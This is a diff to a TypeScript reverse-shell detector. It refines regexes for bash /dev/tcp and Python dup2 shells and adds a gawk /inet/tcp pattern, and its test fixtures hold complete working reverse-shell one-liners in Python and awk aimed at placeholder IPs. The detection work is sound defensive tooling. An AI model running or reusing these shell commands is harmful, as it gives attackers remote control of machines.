@@ -30,7 +30,7 @@ function devTcpIsShell(ctx: MatchContext): Severity | null {
   const line = plainWindow(lineAround(ctx.text, ctx.match.index, ctx.match.index + ctx.match[0].length, 400, 400).line);
   const sh = String.raw`(?:^|[\s;&|('"\x60])(?:\S{0,30}\/)?${SHELL_WORD}`;
   // bash -i >& /dev/tcp/h/p 0>&1 ; sh -i > /dev/udp/h/p ; /bin/bash -l > /dev/tcp/h/p 0<&1 2>&1
-  if (new RegExp(String.raw`${sh}(?:\s{1,4}-{1,2}[a-z]{1,12}){0,3}\s{0,4}[0-2]?[<>]&?\s{0,4}\/dev\/(?:tcp|udp)\/`).test(line) && /[0-2]?[<>]&\s*[0-2]\b|\s-[a-z]*i\b/.test(line)) return 'critical';
+  if (new RegExp(String.raw`${sh}(?:\s{1,4}-{1,2}[a-z]{1,12}){0,3}\s{0,4}[0-2&]?[<>]&?\s{0,4}\/dev\/(?:tcp|udp)\/`).test(line) && /[0-2]?[<>]&\s*[0-2]\b|\s-[a-z]*i\b/.test(line)) return 'critical';
   // 0<&196;exec 196<>/dev/tcp/h/p; sh <&196 >&196 2>&196  |  /bin/sh -i <&3 >&3 2>&3
   if (new RegExp(String.raw`${sh}(?:\s{1,4}-{1,2}[a-z]{1,12}){0,3}\s{1,4}[0-2]?<&\s{0,4}\d{1,3}`).test(line)) return 'critical';
   // a shell whose stdin is fd 1 / fd N bound to the socket: ... > /dev/tcp/h/p 0<&1, 0>&1
@@ -167,7 +167,8 @@ export const REVERSE_SHELL_PATTERNS: PatternRecord[] = [
     severity: 'critical',
     description: 'Python socket wired to a shell (socket.socket(); s.connect(...); os.dup2(s.fileno(),0); pty.spawn("/bin/sh"))',
     keywords: ['fileno'],
-    regex: /\b(?:os\s*\.\s*)?dup2\s*\(\s*[\w.]{1,40}\.fileno\s*\(\s*\)\s*,\s*[0-2]\s*\)|\bstd(?:in|out|err)\s*=\s*[\w.]{1,40}\.fileno\s*\(\s*\)/g,
+    // the second argument may be a loop variable: [os.dup2(s.fileno(),f) for f in (0,1,2)]
+    regex: /\b(?:os\s*\.\s*)?dup2\s*\(\s*[\w.]{1,40}\.fileno\s*\(\s*\)\s*,\s*(?:[0-2]|[A-Za-z_]\w{0,15})\s*\)|\bstd(?:in|out|err)\s*=\s*[\w.]{1,40}\.fileno\s*\(\s*\)/g,
     assess: (ctx) => {
       const w = windowAround(ctx, 1500, 800);
       if (!/\bsocket\b/.test(w) || !/\.\s*(?:connect(?:_ex)?|accept)\s*\(/.test(w)) return null;
@@ -178,6 +179,7 @@ export const REVERSE_SHELL_PATTERNS: PatternRecord[] = [
         'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")\'',
         'import socket,os,subprocess\ns=socket.socket()\ns.connect(("198.51.100.23",9001))\nfor fd in (0,1,2):\n    pass\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])',
         'import socket,subprocess;s=socket.socket();s.connect(("203.0.113.7",443));subprocess.Popen(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())',
+        'python3 -c \'import os,pty,socket;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\'',
       ],
       fp: [
         'import socket\nsrv = socket.socket()\nsrv.bind(("0.0.0.0", 8080))\nsrv.listen()\nconn, addr = srv.accept()\nconn.sendall(b"hello")',
@@ -296,6 +298,33 @@ export const REVERSE_SHELL_PATTERNS: PatternRecord[] = [
     },
   },
   {
+    id: 'reverse_shell/awk_inet',
+    family: 'reverse_shell',
+    direction: 'inbound',
+    severity: 'critical',
+    description: 'gawk /inet/tcp socket whose lines are run as commands (awk \'BEGIN {s = "/inet/tcp/0/HOST/PORT"; … s |& getline c; … c |& getline …}\')',
+    keywords: ['/inet/tcp/', '/inet/udp/'],
+    regex: /\/inet[46]?\/(?:tcp|udp)\/\d{1,5}\/[A-Za-z0-9.:_-]{1,253}\/\d{1,5}(?!\d)/g,
+    assess: (ctx) => {
+      // the socket's lines are read into a variable that is then run as a command (`c |& getline`)
+      const w = windowAround(ctx, 200, 600);
+      return /\|&\s*getline\s+(\w+)[\s\S]{0,200}?\b\1\s*\|&\s*getline\b/.test(w) ? 'critical' : null;
+    },
+    examples: {
+      tp: [
+        "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
+        "gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.23/443\";for(;;){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}'",
+        "awk 'BEGIN { srv = \"/inet/tcp/0/203.0.113.7/9001\"; while (1) { srv |& getline cmd; while ((cmd |& getline out) > 0) print out |& srv; close(cmd) } }'",
+      ],
+      fp: [
+        'gawk \'BEGIN { s = "/inet/tcp/0/example.com/80"; print "GET / HTTP/1.0\\r\\n\\r\\n" |& s; while ((s |& getline line) > 0) print line; close(s) }\'',
+        'gawk \'BEGIN { srv = "/inet/tcp/8080/0/0"; print "hello" |& srv; close(srv) }\'',
+        'The special file /inet/tcp/lport/rhost/rport lets gawk programs open TCP connections.',
+        "awk '{ print $1 }' access.log | sort | uniq -c",
+      ],
+    },
+  },
+  {
     id: 'reverse_shell/powershell_tcp',
     family: 'reverse_shell',
     direction: 'inbound',
@@ -323,8 +352,14 @@ export const REVERSE_SHELL_PATTERNS: PatternRecord[] = [
   },
 ];
 
-/** Non-global copies, for other families to defer to this one. */
-const ALL = REVERSE_SHELL_PATTERNS.map((p) => new RegExp(p.regex.source, p.regex.flags.replace('g', '')));
-export function mayBeReverseShell(s: string): boolean {
-  return ALL.some((r) => r.test(s));
+/** Whether `s` holds a reverse shell this family reports (regex and assess), for other families to defer to. */
+export function isReverseShell(s: string, encodings: string[] = []): boolean {
+  for (const p of REVERSE_SHELL_PATTERNS) {
+    const re = new RegExp(p.regex.source, p.regex.flags.includes('g') ? p.regex.flags : p.regex.flags + 'g');
+    let n = 0;
+    for (let m = re.exec(s); m !== null && n < 8; m = re.exec(s), n++) {
+      if (!p.assess || p.assess({ text: s, match: m, secret: m[0], location: 'body', destHost: '', encodings }) !== null) return true;
+    }
+  }
+  return false;
 }
